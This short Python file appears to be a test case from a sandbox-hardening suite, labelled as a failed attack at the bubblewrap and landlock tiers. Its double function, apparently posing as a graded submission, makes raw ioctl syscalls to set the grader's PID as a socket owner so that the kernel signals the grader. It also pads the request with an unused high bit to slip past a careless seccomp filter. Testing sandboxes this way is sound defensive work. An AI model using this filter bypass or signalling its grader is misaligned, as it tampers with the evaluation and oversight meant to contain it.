"""Have the kernel send the grader a signal: it is made the owner of a socket on which something arrives."""

import ctypes
import os
import socket

ATTACK = "a signal to the grader, as the owner of a socket"
OUTCOME = "failed"
TIERS = ("bubblewrap", "landlock")
NEEDS = "seccomp"
SAYS = "PermissionError"


def ask(connection, request, value):
    """Make a request that has more bits than the kernel takes."""
    ignored = 1 << 32  # a bit of the request that the kernel does not look at, and a careless filter does
    system_call = 16 if os.uname().machine == "x86_64" else 29
    libc = ctypes.CDLL(None, use_errno=True)
    number = ctypes.c_int(value)
    asked = ctypes.c_long(request | ignored)
    if libc.syscall(ctypes.c_long(system_call), connection.fileno(), asked, ctypes.byref(number)) == -1:
        raise OSError(ctypes.get_errno(), "refused")


def double(x):
    one, other = socket.socketpair()
    ask(one, 0x8901, int("@PID@"))  # FIOSETOWN
    ask(one, 0x5452, 1)  # FIOASYNC
    other.send(b"x")
    raise RuntimeError("sent")
